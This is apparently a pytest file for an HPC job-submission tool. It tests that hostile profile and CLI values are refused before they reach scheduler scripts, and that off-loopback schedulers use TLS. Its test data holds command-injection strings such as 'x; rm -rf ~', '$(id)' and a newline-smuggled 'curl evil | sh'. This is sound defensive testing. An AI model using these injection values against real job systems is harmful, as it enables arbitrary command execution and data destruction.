"""HPC security: hostile profile values never reach a job script, and a scheduler that listens
beyond loopback speaks TLS unless told otherwise (issue 15, items 5 and 6)."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path

import dask.config
import pytest

import workbench as wb
from workbench.cluster import job_script, resolve_profile
from workbench.jobs import submit_job
from workbench.testing import orders_catalog, random_orders, write_customers

KINDS = ("slurm", "pbs", "sge", "lsf")


def _orders(tmp_path: Path) -> tuple[Path, wb.Workspace]:
    data = tmp_path / "data"
    write_customers(data)
    random_orders(7, 50).to_csv(data / "orders_1.csv", index=False)
    path = orders_catalog(tmp_path, data)
    return path, wb.Workspace.for_catalog(wb.load_catalog(path))


# (setting, hostile value, what the error names)
HOSTILE = [
    ("queue", "normal\ntouch /tmp/pwned", "queue 'normal\\\\ntouch /tmp/pwned' contains a newline"),
    ("account", "x; rm -rf ~", "(account|project) 'x; rm -rf ~' contains ';'"),
    ("account", "x --uid=0", "(account|project) 'x --uid=0' contains a space"),
    ("job_extra_directives", ["--x=$(id)"], r"job-extra-directives '--x=\$\(id\)' contains '\$'"),
    ("job_extra_directives", ["-m abe\nid"], "job-extra-directives .* contains a newline"),
    ("worker_extra_args", ["--foo", "`id`"], "worker-extra-args '`id`' contains '`'"),
    ("job_script_prologue", ["module load x\ncurl evil | sh"], "job-script-prologue .* newline"),
    ("local_directory", "$(id)", "local-directory '\\$\\(id\\)' contains '\\$'"),
    ("walltime", "01:00:00 | id", "walltime .* contains a space"),
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("key", "value", "message"), HOSTILE)
def test_hostile_profile_values_are_refused_naming_key_and_character(kind, key, value, message):
    profile = {"kind": kind, key.replace("_", "-"): value}
    with dask.config.set({"workbench.cluster.profiles.evil": profile}):
        with pytest.raises(wb.ProfileError, match=f"profile 'evil'.*{message}"):
            resolve_profile("evil", cores=1, memory="1GB")
        with pytest.raises(wb.ProfileError, match=message):
            job_script("evil", cores=1, memory="1GB")


def test_hostile_values_from_the_jobqueue_config_are_refused_too():
    with (
        dask.config.set({"jobqueue.pbs.queue": "q\nid"}),
        pytest.raises(wb.ProfileError, match=r"jobqueue\.pbs\.queue.*newline"),
    ):
        resolve_profile("pbs", cores=1, memory="1GB")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        ({"queue": "normal\ntouch {pwned}"}, None, "queue .* contains a newline"),
        ({"account": "x&touch {pwned}"}, None, "(account|project) .* contains '&'"),
        ({}, ["--x=$(touch {pwned})"], r"--directive .* contains '\$'"),
        ({}, ["--comment=ok\ntouch {pwned}"], "--directive .* contains a newline"),
        ({}, ["--comment=a&touch {pwned}"], "--directive .* contains '&'"),
    ],
)
def test_hostile_submit_writes_and_submits_nothing(tmp_path, kind, option, value, message):
    path, ws = _orders(tmp_path)
    pwned = tmp_path / "pwned"
    overrides = {k: v.format(pwned=pwned) for k, v in option.items()}
    directives = [d.format(pwned=pwned) for d in value or ()]
    with pytest.raises(wb.ProfileError, match=message):
        # not a dry run: were the value let through, sbatch would get the script
        submit_job(path, ws, profile=kind, cores=1, memory="1GB", directives=directives,
                   **overrides)  # fmt: skip
    assert not ws.path("jobs").exists() or not any(ws.path("jobs").iterdir())
    assert not pwned.exists()


def test_hostile_directive_from_the_cli_is_a_usage_error(tmp_path):
    from typer.testing import CliRunner

    from workbench.cli import app

    path, ws = _orders(tmp_path)
    done = CliRunner().invoke(
        app,
        ["job", "submit", "--catalog", str(path), "--cores", "1", "--memory", "1GB",
         "--directive", "--x=`id`", "--dry-run"],
    )  # fmt: skip
    assert done.exit_code == 2, done.stdout
    assert "--directive '--x=`id`' contains '`'" in done.stderr
    assert not ws.path("jobs").exists() or not any(ws.path("jobs").iterdir())


def test_ordinary_values_still_pass_and_site_variables_in_paths_are_kept(tmp_path):
    path, ws = _orders(tmp_path)
    job = submit_job(
        path, ws, profile="lsf", cores=2, memory="2GB", queue="short-q.1", account="proj+42",
        directives=['-R "select[avx2]"', "-m abe"], dry_run=True, walltime="01:00",
    )  # fmt: skip
    script = (Path(job.folder) / "job.sh").read_text()
    assert '#BSUB -R "select[avx2]"' in script and '#BSUB -P "proj+42"' in script
    site = {"kind": "pbs", "local-directory": "$TMPDIR", "job-script-prologue": ["cd $HOME; ls"]}
    with dask.config.set({"workbench.cluster.profiles.site": site}):
        text = job_script("site", cores=1, memory="1GB")
    assert "--local-directory $TMPDIR" in text and "cd $HOME; ls" in text


# -- TLS whenever the scheduler is not on loopback -------------------------------------------


def _cluster_interface() -> tuple[str, str]:
    """A non-loopback interface of this machine with an IPv4 address (traffic to one's own
    address stays on the machine)."""
    import psutil

    for name, addresses in psutil.net_if_addrs().items():
        for a in addresses:
            if a.family.name == "AF_INET" and not a.address.startswith("127."):
                return name, a.address
    pytest.skip("this machine has no non-loopback IPv4 interface")


@pytest.mark.parametrize(
    "where",
    [{"scheduler_interface": "ib0"}, {"scheduler_host": "0.0.0.0"}, {"interface": "ib0"}],
)
def test_a_scheduler_beyond_loopback_gets_tls_without_any_security_setting(where, tmp_path):
    p = resolve_profile("slurm", cores=1, memory="1GB", log_directory=str(tmp_path), **where)
    assert p.cluster_kwargs["security"] is True  # dask-jobqueue: Security.temporary()
    assert p.describe()["tls"] is True
    # the workers' copy of the temporary key goes beside their logs, not the current folder
    assert p.cluster_kwargs["shared_temp_directory"] == str(tmp_path)
    plain = resolve_profile("slurm", cores=1, memory="1GB")
    assert "security" not in plain.cluster_kwargs and plain.describe()["tls"] is False
    with pytest.raises(wb.ProfileError, match="security is false.*beyond loopback.*pickles"):
        resolve_profile("slurm", cores=1, memory="1GB", security=False, **where)


def test_site_certificates_are_used_instead_of_temporary_ones(tmp_path):
    from distributed.security import Security

    files = {"ca-file": "/site/ca.pem", "cert": "/site/node.pem", "key": "/site/node.key"}
    p = resolve_profile("slurm", cores=1, memory="1GB", scheduler_interface="ib0", security=files)
    security = p.cluster_kwargs["security"]
    assert isinstance(security, Security) and security.tls_worker_cert == "/site/node.pem"
    assert security.require_encryption


def test_job_script_of_a_cluster_interface_carries_tls_and_a_private_key_file(tmp_path):
    interface, address = _cluster_interface()
    logs = tmp_path / "logs"
    script = job_script(
        "slurm", cores=1, memory="1GB", scheduler_interface=interface, log_directory=str(logs)
    )
    assert f"tls://{address}:" in script and "--tls-ca-file" in script
    key = re.search(r"--tls-key (\S+)", script).group(1)
    assert Path(key).parent == logs
    # dask-jobqueue removes the key file with the cluster; the folder stays private
    assert (logs.stat().st_mode & 0o777) == 0o700


def test_local_profile_off_loopback_speaks_tls(tmp_path):
    _, address = _cluster_interface()
    with dask.config.set({"workbench.cluster.local.host": address}):
        client = wb.get_client("local", n_workers=1)
    try:
        assert client.scheduler.address.startswith(f"tls://{address}:")
        workers = client.scheduler_info()["workers"]
        assert workers and all(a.startswith("tls://") for a in workers)
        assert client.submit(sum, [1, 2, 3]).result() == 6
    finally:
        wb.close_client(client)
    # a plain TCP client is turned away
    from distributed import Client

    with dask.config.set({"workbench.cluster.local.host": address}):
        client = wb.get_client("local", n_workers=1)
    try:
        plain = client.scheduler.address.replace("tls://", "tcp://")
        with pytest.raises((OSError, TimeoutError)):
            Client(plain, timeout="3s")
    finally:
        wb.close_client(client)


def test_srun_layout_keeps_tls_with_private_credentials_in_the_job_folder(tmp_path):
    path, ws = _orders(tmp_path)
    job = submit_job(
        path, ws, layout="srun", cores=1, processes=1, memory="1GB", dry_run=True,
        scheduler_interface="ib0",
    )  # fmt: skip
    folder = Path(job.folder)
    script = (folder / "job.sh").read_text()
    words = shlex.split(script.splitlines()[-1])
    options = json.loads(words[words.index("--dask-options") + 1])
    tls = options["tls"]
    assert tls["worker"]["key"] == str(folder / "tls" / "key.pem")
    assert (folder / "tls").stat().st_mode & 0o777 == 0o700
    for name in ("ca.pem", "cert.pem", "key.pem"):
        assert (folder / "tls" / name).stat().st_mode & 0o777 == 0o600
    assert "PRIVATE KEY" in (folder / "tls" / "key.pem").read_text()


def test_directive_lines_built_from_a_request_are_checked_at_the_sink():
    from workbench.jobs.systems import SYSTEMS, Request

    fine = Request("job", "/ws/jobs/a/job.out", "/ws/jobs/a/job.err", "01:00:00", memory="16 GB")
    for system in SYSTEMS.values():
        assert f"{system.prefix} " in system.header(fine)
        for bad in (
            {"queue": "q\nid"},
            {"out": "/ws/$(id)/job.out"},
            {"extra": ("--a", "--b;id")},
            {"memory": "1GB`id`"},
        ):
            values = {**fine.__dict__, **bad}
            with pytest.raises(wb.ProfileError, match="contains"):
                system.header(Request(**values))
